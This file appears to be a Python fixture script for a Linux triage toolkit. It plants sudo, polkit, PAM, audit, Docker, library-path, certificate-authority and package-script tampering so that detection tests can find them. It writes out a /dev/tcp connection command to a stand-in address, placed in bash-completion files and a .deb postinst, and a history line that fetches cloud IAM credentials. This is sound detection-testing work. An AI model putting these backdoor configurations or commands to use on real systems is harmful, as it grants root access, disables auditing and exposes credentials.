# SPDX-FileCopyrightText: Contributors to the csirt.linux_triage collection
# SPDX-License-Identifier: GPL-3.0-or-later

"""Plants what gives rights away, hides or switches defences off, harmlessly. tests/test_rights.py reads the list."""

import os
import shutil
import struct
import subprocess
import tempfile
import time

HOME = '/home/planted-rights'
ELSEWHERE = '/opt/.planted-rights'
TITLE = 'php-fpm: pool planted'
EVIL = 'bash -c "exec 3<>/dev/tcp/192.0.2.1/80"'
# Of a key that was thrown away.
CERTIFICATE = """-----BEGIN CERTIFICATE-----
MIIBsTCCAVegAwIBAgIUYnT0KXXPzNmJbuzrJSjb9zGRZh0wCgYIKoZIzj0EAwIw
LjEQMA4GA1UECgwHUGxhbnRlZDEaMBgGA1UEAwwRUGxhbnRlZCBBdXRob3JpdHkw
HhcNMjYxMTI1MTcxNDM3WhcNMzYxMTIyMTcxNDM3WjAuMRAwDgYDVQQKDAdQbGFu
dGVkMRowGAYDVQQDDBFQbGFudGVkIEF1dGhvcml0eTBZMBMGByqGSM49AgEGCCqG
SM49AwEHA0IABKvVEGW+sWG+5Zejkic9agfXJ7VJnmyT9oBN9cxLKl8ToGK+vRou
8CmKFaBMpU8w7uYHaVaWQNfIJ0SWDz+SbkKjUzBRMB0GA1UdDgQWBBTG8ssC5Lrd
aUebW1fPckSogXFHoDAfBgNVHSMEGDAWgBTG8ssC5LrdaUebW1fPckSogXFHoDAP
BgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0gAMEUCIQCDAVqAHmx6jFwYv4QU
J2YN4Sy8iaJviXHzanx6j7SmcAIgX9VUlU+uMdnl7QKR8vhZJPFvEnFg4q6j4OSj
mYW3xR4=
-----END CERTIFICATE-----
"""

# Path, content, mode, and the rules that find it.
FILES = [
    ('/etc/sudoers.d/planted-rights', '@includedir %s\ndaemon ALL=(ALL) NOPASSWD: /usr/bin/vim\n' % ELSEWHERE, 0o440,
     ['sudo-includes-elsewhere', 'sudo-gives-shell']),
    (ELSEWHERE + '/rules', 'www-data ALL=(ALL:ALL) NOPASSWD: ALL\n', 0o440, ['sudo-for-service-account']),
    ('/etc/polkit-1/rules.d/01-planted-rights.rules', 'polkit.addRule(function(action, subject) {\n  return polkit.Result.YES;\n});\n', 0o644,
     ['polkit-says-yes']),
    ('/etc/pam.d/planted-rights', 'auth sufficient pam_permit.so\n', 0o644, ['pam-lets-in']),
    ('/etc/audit/rules.d/planted-rights.rules', '-D\n-e 0\n', 0o640, ['audit-switched-off']),
    ('/etc/docker/daemon.json', '{"hosts": ["tcp://0.0.0.0:2375"]}\n', 0o644, ['container-runtime-open']),
    ('/etc/ld.so.conf.d/planted-rights.conf', '/var/lib/.planted-rights\n', 0o644, ['library-path-hidden']),
    (HOME + '/.bash_history', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n', 0o600, ['cloud-credentials-taken']),
    (HOME + '/.bash_completion', EVIL + '\n', 0o644, ['persistence-evil-command']),
    ('/etc/bash_completion.d/planted', '_planted() { %s; }\n' % EVIL, 0o644, ['persistence-evil-command']),
    ('/usr/share/bash-completion/completions/planted', EVIL + '\n', 0o644, ['persistence-evil-command']),
    ('/var/lib/systemd/linger/planted-rights', '', 0o644, ['user-lingers']),
    ('/var/lib/dpkg/info/planted-orphan.prerm', '#!/bin/sh\nexit 0\n', 0o755, ['package-script-altered']),
    ('/usr/local/share/ca-certificates/planted.crt', CERTIFICATE, 0o644, ['certificate-authority-added']),
]
ALTERED = '/var/lib/dpkg/info/base-passwd.postinst'
PACKAGE = '/var/lib/dpkg/info/planted-scripts.postinst'
CAPABLE = '/usr/local/bin/planted-capable'
# What is planted in another way.
FOUND = [
    (ALTERED, ['package-script-altered']), (PACKAGE, ['package-of-scripts-alone', 'persistence-evil-command']),
    (CAPABLE, ['capability-of-no-package']), ('/etc/rc.local', ['rc-local-runs']),
]


def write(path, content, mode):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as stream:
        stream.write(content)
    os.chmod(path, mode)


def package():
    """One that has a script and nothing else; what the script would do stands behind its end."""
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        control = 'Package: planted-scripts\nVersion: 1\nArchitecture: all\nMaintainer: nobody <nobody@example.org>\nDescription: planted\n'
        write(folder + '/DEBIAN/control', control, 0o644)
        write(folder + '/DEBIAN/postinst', '#!/bin/sh\nexit 0\n%s\n' % EVIL, 0o755)
        os.chmod(folder + '/DEBIAN', 0o755)
        archive = folder + '.deb'
        subprocess.check_call(['dpkg-deb', '--build', folder, archive], stdout=subprocess.DEVNULL)
        subprocess.check_call(['dpkg', '--install', archive], stdout=subprocess.DEVNULL)
        os.unlink(archive)


def altered():
    """A script of a package with a line more. Its time lies ahead, since the host's image may be minutes old."""
    with open(ALTERED, 'a') as stream:
        stream.write('# planted\n')
    os.utime(ALTERED, (time.time(), time.time() + 86400))


def capable():
    """cap_net_raw=ep (struct vfs_cap_data, revision 2)"""
    shutil.copy('/usr/bin/env', CAPABLE)
    os.chmod(CAPABLE, 0o755)
    os.setxattr(CAPABLE, 'security.capability', struct.pack('<5I', 0x02000001, 1 << 13, 0, 0, 0))


if __name__ == '__main__':
    for file_path, text, permissions, _rules in FILES:
        write(file_path, text, permissions)
    package()
    altered()
    capable()
    subprocess.check_call(['visudo', '--check', '--quiet'])
    subprocess.check_call([
        'systemd-run', '--quiet', '--unit=planted-title', 'bash', '-c', 'exec -a "%s" bash -c "sleep 1000000 & wait"' % TITLE,
    ])
